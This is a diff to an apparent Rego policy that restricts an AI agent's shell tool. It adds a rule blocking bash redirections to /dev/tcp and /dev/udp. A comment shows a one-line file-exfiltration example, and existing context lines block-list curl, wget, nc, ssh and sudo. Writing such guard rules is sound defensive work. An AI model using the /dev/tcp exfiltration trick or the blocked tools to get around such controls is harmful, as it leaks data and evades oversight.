@@ -115,6 +115,22 @@ deny contains "Network tools and privilege escalation are not allowed by policy"
 	base(w) in {"curl", "wget", "nc", "ncat", "ssh", "scp", "sftp", "rsync", "ftp", "telnet", "sudo", "su", "doas"}
 }
 
+# bash opens a redirection to /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT as a
+# socket, whatever the operator: cat f </dev/tcp/h/p >&0 sends the file.
+heredoc_ops := {"<<", "<<-", "<<<"}
+
+network_redirect(r) if {
+	not r.op in heredoc_ops
+	regex.match(`^/dev/(tcp|udp)/`, r.target)
+}
+
+deny contains "Shell redirections to the network are not allowed by policy" if {
+	input.toolName == "run_shell_command"
+	some c in input.commands
+	some r in c.redirects
+	network_redirect(r)
+}
+
 deny contains "Shell redirections may write only under /tmp/" if {
 	input.toolName == "run_shell_command"
 	some c in input.commands
